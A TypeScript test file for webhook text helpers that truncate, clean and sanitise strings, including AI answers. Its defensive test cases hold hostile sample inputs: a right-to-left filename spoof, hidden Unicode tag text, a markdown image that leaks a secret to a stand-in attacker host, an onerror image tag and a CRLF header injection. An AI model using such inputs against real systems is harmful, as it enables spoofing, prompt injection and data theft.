import { describe, expect, test } from 'vitest';
import fc from 'fast-check';
import {
  answerText,
  asIs,
  clean,
  cleanLine,
  cut,
  cutEscaped,
  discordMarkdown,
  entities,
  headerSafe,
  measure,
} from '../../../src/main/webhooks/text.ts';

const FAMILY = '👨‍👩‍👧‍👦';
const SCOTLAND = '🏴\u{e0067}\u{e0062}\u{e0073}\u{e0063}\u{e0074}\u{e007f}';

describe('cut', () => {
  test.each([
    ['whole text stays', 'abc', 3, 'utf16', 'abc'],
    ['room for the ellipsis', 'abcd', 3, 'utf16', 'ab…'],
    ['UTF-8 counts bytes, ellipsis three', 'äöü', 5, 'utf8', 'ä…'],
    ['code points count an emoji once', '😀😀😀', 3, 'codepoint', '😀😀😀'],
    ['UTF-16 counts it twice and never halves it', '😀😀😀', 4, 'utf16', '😀…'],
    ['a family is not torn apart', `a${FAMILY}b`, 8, 'utf16', 'a…'],
    ['a combining mark stays with its letter', 'e\u0301e\u0301', 3, 'utf16', 'e\u0301…'],
    ['no space before the ellipsis', 'ab cd', 4, 'utf16', 'ab…'],
    ['a lone surrogate becomes U+FFFD', 'a\ud83d', 5, 'utf16', 'a\ufffd'],
    ['nothing fits', 'abcd', 0, 'utf16', ''],
  ] as const)('%s', (_name, text, max, unit, expected) => {
    expect(cut(text, max, unit)).toBe(expected);
  });

  test('never cuts inside an escape', () => {
    expect(cutEscaped('a&b', 6, 'utf16', entities)).toBe('a…');
    expect(cutEscaped('a&b', 7, 'utf16', entities)).toBe('a&amp;b');
    expect(cutEscaped('**', 3, 'utf16', discordMarkdown)).toBe('\\*…');
  });

  test('stacked marks longer than the limit are cut, not dropped', () => {
    const result = cut(`e${'\u0301'.repeat(5000)}`, 50, 'utf16');
    expect(result.length).toBe(50);
  });

  test('three megabytes are cut at once', () => {
    const start = performance.now();
    for (const text of ['a'.repeat(3_000_000), FAMILY.repeat(270_000), `e${'\u0301'.repeat(3_000_000)}`])
      expect(measure(cut(text, 4096, 'utf8'), 'utf8')).toBeLessThanOrEqual(4096);
    expect(performance.now() - start).toBeLessThan(500);
  });

  test('holds for any text: within the limit, well-formed, a prefix by whole graphemes', () => {
    const segmenter = new Intl.Segmenter('en', { granularity: 'grapheme' });
    fc.assert(
      fc.property(
        fc.string({ unit: 'grapheme', maxLength: 60 }),
        fc.integer({ min: 3, max: 60 }),
        fc.constantFrom('utf16' as const, 'codepoint' as const, 'utf8' as const),
        (text, max, unit) => {
          const result = cut(text, max, unit);
          const size =
            unit === 'utf8'
              ? new TextEncoder().encode(result).length
              : unit === 'utf16'
                ? result.length
                : Array.from(result).length;
          expect(size).toBeLessThanOrEqual(max);
          expect(result.isWellFormed()).toBe(true);
          if (result === text) return;
          const kept = result.slice(0, -1);
          const boundaries = [...segmenter.segment(text)].map((one) => text.slice(0, one.index).trimEnd());
          expect(boundaries).toContain(kept);
        },
      ),
    );
  });
});

describe('clean', () => {
  test.each([
    ['right-to-left override', 'a\u202egpj.exe', 'agpj.exe'],
    ['isolates', '\u2066x\u2069', 'x'],
    [
      'hidden tag text',
      `ok${Array.from('ignore', (c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join('')}`,
      'ok',
    ],
    ['the flag of Scotland stays', SCOTLAND, SCOTLAND],
    ['joined emoji stay', FAMILY, FAMILY],
    ['Persian keeps its non-joiner', 'می\u200cخواهم', 'می\u200cخواهم'],
    ['nulls and escapes', 'a\u0000\u001b[31mb', 'a[31mb'],
    ['line ends', 'a\r\nb\rc\u2028d', 'a\nb\nc\nd'],
    ['lone surrogates', '\udc00a', '\ufffda'],
  ])('%s', (_name, text, expected) => {
    expect(clean(text)).toBe(expected);
  });

  test('a title is one line', () => {
    expect(cleanLine(' a\n\n b\t c ')).toBe('a b c');
  });
});

describe('answerText', () => {
  test.each([
    [
      'reasoning',
      '<details type="reasoning" done="true">\n<summary>x</summary>\nhidden\n</details>\nShown',
      'Shown',
    ],
    ['nested blocks', 'a<details><details>x</details>y</details>b', 'ab'],
    ['an unclosed block runs to the end', 'a <DETAILS open>hidden', 'a'],
    ['a block cut inside its tag', 'a <details type="rea', 'a'],
    ['a word that merely begins so', 'a <detailsof> b', 'a <detailsof> b'],
    [
      'images become their alternative text',
      'see ![a cat](https://evil.example/?q=secret) here',
      'see a cat here',
    ],
    ['reference images lose what makes them load', '![x][1]', '[x][1]'],
    ['HTML images', 'a<img src=x onerror=y>b', 'ab'],
    ['links stay as written', '[a](https://b.example)', '[a](https://b.example)'],
  ])('%s', (_name, answer, expected) => {
    expect(answerText(answer)).toBe(expected);
  });

  test.each(['<details>', '</details>', '![', '<img ', '![a](', '<details '])(
    '%s repeated stays cheap',
    (piece) => {
      const start = performance.now();
      answerText(piece.repeat(1_000_000 / piece.length));
      expect(performance.now() - start).toBeLessThan(1500);
    },
  );
});

test('cutting without an escape changes nothing else', () => {
  expect(cutEscaped('<@U1> & co', 99, 'utf16', asIs)).toBe('<@U1> & co');
});

test('header values are printable ASCII', () => {
  expect(headerSafe(' Bearer ünï\r\nX-Evil: 1😀 ')).toBe('Bearer ?n???X-Evil: 1?');
});
